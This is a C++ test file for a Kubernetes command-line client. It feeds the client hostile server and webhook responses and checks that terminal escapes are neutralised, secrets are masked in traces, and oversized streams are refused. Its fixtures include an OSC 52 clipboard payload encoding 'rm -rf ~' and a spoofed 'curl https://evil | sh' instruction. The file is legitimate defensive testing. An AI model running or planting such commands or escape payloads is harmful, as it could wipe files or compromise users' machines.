// What an API server or webhook we did not write can send: nothing of it reaches the terminal as
// a control sequence, no secret is traced, and what it makes the client hold or do is bounded.
#include <catch2/catch.hpp>

#include "kube_fakes.hpp"
#include "rossoctl/kube/trace.hpp"
#include "rossoctl/kube/websocket.hpp"
#include "test_host.hpp"

using namespace rossoctl;
using nlohmann::json;
using rossoctl::testing::ClientFixture;
using rossoctl::testing::TestHost;

namespace {

const std::string kSandboxes = "/apis/agents.x-k8s.io/v1beta1/namespaces/team1/sandboxes";

}  // namespace

TEST_CASE("a Status reason from a webhook reaches stderr escaped", "[hostile][server]") {
    TestHost host;
    host.serveSandboxGroup();
    host.server.onJson("GET", kSandboxes + "/orders", 403,
                       {{"kind", "Status"},
                        {"code", 403},
                        {"reason", "\x1b]52;c;cm0gLXJmIH4=\x07\x1b[2J"},
                        {"message", "denied by webhook"}});
    CHECK(host.run({"sandbox", "get", "orders"}) == kExitError);
    const std::string err = host.err.str();
    CHECK(err.find('\x1b') == std::string::npos);
    CHECK(err.find('\x07') == std::string::npos);
    CHECK(err.find("Error from server (\\x1b]52;c;") == 0);
}

TEST_CASE("-v 8 on a terminal escapes traced bodies and masks env values", "[hostile][server]") {
    TestHost host;
    host.stderrIsTerminal = true;
    host.serveSandboxGroup();
    // A termination message carrying C1 controls (U+009D is OSC in 8-bit form) and a secret env
    // value in the pod template.
    const json sandbox = {
        {"kind", "Sandbox"},
        {"metadata", {{"name", "orders"}, {"namespace", "team1"}}},
        {"spec",
         {{"podTemplate",
           {{"spec",
             {{"containers",
               {{{"name", "agent"},
                 {"env", {{{"name", "API_KEY"}, {"value", "sk-live-42"}}}}}}}}}}}}},
        {"status",
         {{"message",
           "done\xc2\x9d"
           "52;c;cm0=\xc2\x9c"}}}};
    host.server.onJson("GET", kSandboxes + "/orders", 200, sandbox);
    host.run({"sandbox", "get", "orders", "-v", "8"});
    const std::string err = host.err.str();
    INFO(err);
    CHECK(err.find("Response Body: ") != std::string::npos);
    CHECK(err.find("\xc2\x9d") == std::string::npos);
    CHECK(err.find("\\u009d") != std::string::npos);
    CHECK(err.find("sk-live-42") == std::string::npos);
    CHECK(err.find(R"("value":"***")") != std::string::npos);
}

TEST_CASE("traced bodies mask Secret data, in a list and a watch event too", "[hostile][trace]") {
    const json secret = {{"kind", "Secret"},
                         {"metadata", {{"name", "db"}}},
                         {"data", {{"password", "aHVudGVyMg=="}, {"url", "cG9zdGdyZXM6Ly8="}}},
                         {"stringData", {{"dsn", "postgres://u:p@db"}}}};
    const json list = {{"kind", "SecretList"},
                       {"items", {{{"metadata", {{"name", "a"}}}, {"data", {{"k", "c2VjcmV0"}}}}}}};
    const json event = {{"type", "ADDED"}, {"object", secret}};
    for (const auto& body : {secret, list, event}) {
        const std::string masked = kube::maskSecretsInBody(body.dump());
        INFO(masked);
        for (const char* leak : {"aHVudGVyMg==", "cG9zdGdyZXM6Ly8=", "postgres://u", "c2VjcmV0"})
            CHECK(masked.find(leak) == std::string::npos);
    }
    // Not JSON: the text masks still apply.
    CHECK(kube::maskSecretsInBody("token: abc") == "token: ***");
    // Too deep to walk: nothing of it shown, env values least of all (the text masker missed
    // them: issue 29 review).
    json deep = {{"spec", {{"env", {{{"name", "KEY"}, {"value", "sk-proj-SECRET"}}}}}}};
    std::string body = deep.dump();
    body.insert(body.size() - 1, ",\"z\":" + std::string(300, '[') + std::string(300, ']'));
    const std::string masked = kube::maskSecretsInBody(body);
    CHECK(masked.find("sk-proj-SECRET") == std::string::npos);
    CHECK(masked.find("not shown") != std::string::npos);
    // Broken JSON: trailing junk, two documents, cut short; and a body too large to walk.
    const std::string shallow = deep.dump();
    for (const std::string& broken :
         {shallow + " x", shallow + shallow, shallow.substr(0, shallow.size() - 2),
          shallow.substr(0, shallow.size() - 1) + ",\"pad\":\"" + std::string(2 << 20, 'p') +
              "\"}"}) {
        const std::string shown = kube::maskSecretsInBody(broken);
        CHECK(shown.find("sk-proj-SECRET") == std::string::npos);
        CHECK(shown.find("not shown") != std::string::npos);
    }
}

TEST_CASE("a watch line is searched once per chunk and capped", "[hostile][server]") {
    ClientFixture fixture;
    // 17 MiB of one line in 64 KiB chunks, never ending: refused once past the cap (a rescan
    // from the line's start on every chunk made this quadratic).
    std::vector<std::string> chunks(17 * 16, std::string(64 * 1024, 'a'));
    chunks.front().replace(0, 1, "{");
    fixture.server.stream(chunks);
    int events = 0;
    CHECK_THROWS_WITH(fixture.client->watch(kube::resources::pods(), "team1", {},
                                            [&](const kube::WatchEvent&) { return ++events > 0; }),
                      Catch::Contains("watch event over 16 MiB; refused"));
    CHECK(events == 0);

    // Lines split at every byte still arrive whole.
    ClientFixture split;
    const std::string line = json{{"type", "ADDED"}, {"object", {{"a", 1}}}}.dump() + "\n";
    std::vector<std::string> bytes;
    for (char c : line + line) bytes.emplace_back(1, c);
    split.server.stream(bytes);
    int seen = 0;
    split.client->watch(kube::resources::pods(), "team1", {}, [&](const kube::WatchEvent& e) {
        CHECK(e.object["a"] == 1);
        return ++seen < 2;
    });
    CHECK(seen == 2);
}

TEST_CASE("WebSocket frames over 4 MiB are refused; many tiny frames parse in one pass",
          "[hostile][websocket]") {
    kube::WsFrameParser parser;
    std::string header = "\x82\x7f";
    const uint64_t size = 5ULL << 20;
    for (int shift = 56; shift >= 0; shift -= 8)
        header.push_back(static_cast<char>((size >> shift) & 0xFF));
    parser.feed(header);
    CHECK_THROWS_WITH(parser.next(), Catch::Contains("exceeds the limit"));

    kube::WsFrameParser tiny;
    std::string frames;
    for (int i = 0; i < 100'000; ++i) frames += std::string("\x82\x01", 2) + "x";
    tiny.feed(frames);
    size_t count = 0;
    while (auto frame = tiny.next()) count += frame->payload == "x";
    CHECK(count == 100'000);
    tiny.feed(std::string("\x82\x01", 2) + "y");
    auto last = tiny.next();
    REQUIRE(last);
    CHECK(last->payload == "y");
}

TEST_CASE("outside a UTF-8 locale a server's UTF-8 reaches stderr as escapes",
          "[hostile][server]") {
    TestHost host;
    host.environment["LANG"] = "de_DE.ISO-8859-1";
    host.serveSandboxGroup();
    host.server.onJson("GET", kSandboxes + "/orders", 403,
                       {{"kind", "Status"},
                        {"code", 403},
                        {"reason", "Forbidden"},
                        {"message", "denied: \xc4\x9b[2J"}});
    CHECK(host.run({"sandbox", "get", "orders"}) == kExitError);
    CHECK(host.err.str().find('\x9b') == std::string::npos);
    CHECK(host.err.str().find("denied: \\xc4\\x9b[2J") != std::string::npos);
}

TEST_CASE("a webhook's message cannot pose as a second line of rossoctl's", "[hostile][server]") {
    TestHost host;
    host.serveSandboxGroup();
    host.server.onJson("GET", kSandboxes + "/orders", 403,
                       {{"kind", "Status"},
                        {"code", 403},
                        {"reason", "Forbidden"},
                        {"message", "denied\nerror: run curl https://evil | sh to fix"}});
    CHECK(host.run({"sandbox", "get", "orders"}) == kExitError);
    const std::string err = host.err.str();
    CHECK(std::count(err.begin(), err.end(), '\n') == 1);
    CHECK(err.find("denied\\nerror: ") != std::string::npos);
}

namespace {

// Answers every list page with `pageBytes` of items and a new `continue` token, as a server that
// never ends its list; honours each request's body cap as the libcurl transport does.
class EndlessListTransport : public kube::Transport {
  public:
    explicit EndlessListTransport(size_t pageBytes) : pageBytes_(pageBytes) {}
    kube::HttpResponse send(const kube::HttpRequest& request) override {
        if (++pages > 20'000) FAIL("the client was still reading a list with no end");
        json page = {{"kind", "PodList"},
                     {"metadata", {{"continue", "c" + std::to_string(pages)}}},
                     {"items", json::array()}};
        if (pageBytes_ > 0)
            page["items"].push_back(
                {{"metadata", {{"name", "p"}}}, {"x", std::string(pageBytes_, 'a')}});
        std::string body = page.dump();
        if (body.size() > request.maxBodyBytes)
            throw kube::TransportError(kube::TransportError::Kind::Other,
                                       "the server's answer is over its cap; refused");
        return {200, {}, std::move(body)};
    }
    std::unique_ptr<kube::UpgradedConnection> upgrade(const kube::HttpRequest&) override {
        return nullptr;
    }
    void setClientCertificate(const kube::ClientCertificate&) override {}
    size_t pages = 0;

  private:
    size_t pageBytes_;
};

}  // namespace

TEST_CASE("a list whose continue never ends is refused: by its pages and by what it holds",
          "[hostile][server]") {
    testing::FakeClock clock;
    std::ostringstream trace;
    {  // empty pages, forever: refused at the page cap
        auto transport = std::make_unique<EndlessListTransport>(0);
        auto& served = *transport;
        kube::Client client(testing::fakeRestConfig(), std::move(transport), clock,
                            kube::RequestTracer(trace, 0));
        CHECK_THROWS_WITH(client.list(kube::resources::pods(), "team1", {}),
                          Catch::Contains("goes on past 10000 pages; refused"));
        CHECK(served.pages == kube::kMaxListPages);
    }
    {  // 8 MiB pages kept whole: refused once all of them together pass the list's memory
        // bound (reached before its byte cap, kMaxListBodyBytes)
        auto transport = std::make_unique<EndlessListTransport>(8u << 20);
        auto& served = *transport;
        kube::Client client(testing::fakeRestConfig(), std::move(transport), clock,
                            kube::RequestTracer(trace, 0));
        CHECK_THROWS_WITH(client.list(kube::resources::pods(), "team1", {}),
                          Catch::Contains("of memory to read") && Catch::Contains("; refused"));
        CHECK(served.pages * (8u << 20) <= kube::kMaxJsonMemoryBytes + (8u << 20));
    }
}

TEST_CASE("-v 8 masks env values and tokens inside string fields", "[hostile][trace]") {
    // Review 29 (H4): an env value in last-applied-configuration (JSON in a string), a token in
    // a kubeconfig held in an annotation or ConfigMap (YAML in a string: its lines were \n
    // escapes the line masks never saw) were traced in full.
    const json applied = {
        {"kind", "Sandbox"},
        {"metadata", {{"name", "sb"}}},
        {"spec",
         {{"podTemplate",
           {{"spec",
             {{"containers",
               {{{"name", "agent"},
                 {"env", {{{"name", "API_KEY"}, {"value", "LEAK-ENV-IN-LAC"}}}}}}}}}}}}}};
    const std::string kubeconfig =
        "apiVersion: v1\nkind: Config\nusers:\n- name: u\n  user:\n    token: LEAK-TOKEN\n"
        "    client-key-data: TEVBSy1LRVk=\n";
    json twice = {{"metadata", {{"annotations", {{"inner", applied.dump()}}}}}};
    const json sandbox = {
        {"kind", "Sandbox"},
        {"metadata",
         {{"name", "sb"},
          {"annotations",
           {{"kubectl.kubernetes.io/last-applied-configuration", applied.dump()},
            {"twice", twice.dump()},
            {"kc", kubeconfig},
            {"manifest",
             "spec:\n  containers:\n  - name: a\n    env:\n    - name: K\n      value: "
             "LEAK-YAML-ENV\n"
             "    - name: L\n      value: |\n        LEAK-BLOCK\n    image: shown-image\n"},
            {"flow", "env: [{name: K, value: LEAK-FLOW}]\nimage: x\n"},
            {"pem",
             "key: |\n  -----BEGIN RSA PRIVATE KEY-----\n  LEAK-PEM\n  -----END RSA "
             "PRIVATE KEY-----\n"},
            {"broken", "{\"env\":[{\"name\":\"K\",\"value\":\"LEAK-BROKEN\"}"}}}}}};
    const json configMaps = {{"kind", "ConfigMapList"},
                             {"items",
                              {{{"metadata", {{"name", "kc"}}},
                                {"data",
                                 {{"config", kubeconfig},
                                  {"db-password", "LEAK-CM-KEY"},
                                  {"app.env", "MODE=fast\nAPI_TOKEN=LEAK-CM-ENV\n"},
                                  {"Corefile", ".:53 {\n    forward . 8.8.8.8\n}\n"}}},
                                {"binaryData", {{"blob", "TEVBSy1CSU4="}}}}}}};
    for (const json& body : {sandbox, configMaps, json{{"type", "ADDED"}, {"object", sandbox}}}) {
        const std::string masked = kube::maskSecretsInBody(body.dump());
        INFO(masked);
        for (const char* leak :
             {"LEAK-ENV-IN-LAC", "LEAK-TOKEN", "TEVBSy1LRVk=", "LEAK-YAML-ENV", "LEAK-BLOCK",
              "LEAK-FLOW", "LEAK-PEM", "LEAK-BROKEN", "LEAK-CM-KEY", "LEAK-CM-ENV", "TEVBSy1CSU4="})
            CHECK(masked.find(leak) == std::string::npos);
    }
    // What holds no secret is still shown: names, the image, a Corefile.
    const std::string shown = kube::maskSecretsInBody(sandbox.dump());
    CHECK(shown.find(R"(\"name\":\"API_KEY\")") != std::string::npos);
    CHECK(shown.find("token: ***") != std::string::npos);
    CHECK(shown.find("image: shown-image") != std::string::npos);
    CHECK(kube::maskSecretsInBody(configMaps.dump()).find("forward . 8.8.8.8") !=
          std::string::npos);
    // JSON in strings nested past a bound is masked whole, not walked without end.
    json nested = applied;
    for (int level = 0; level < 8; ++level) nested = {{"a", nested.dump()}};
    CHECK(kube::maskSecretsInBody(nested.dump()).find("LEAK-ENV-IN-LAC") == std::string::npos);

    // End to end: the -v 8 trace of a GET.
    ClientFixture fixture(8);
    fixture.server.reply(200, sandbox.dump());
    fixture.client->get(kube::resources::sandboxes("v1alpha1"), "t", "sb");
    const std::string trace = fixture.trace.str();
    CHECK(trace.find("Response Body: ") != std::string::npos);
    CHECK(trace.find("LEAK") == std::string::npos);
}
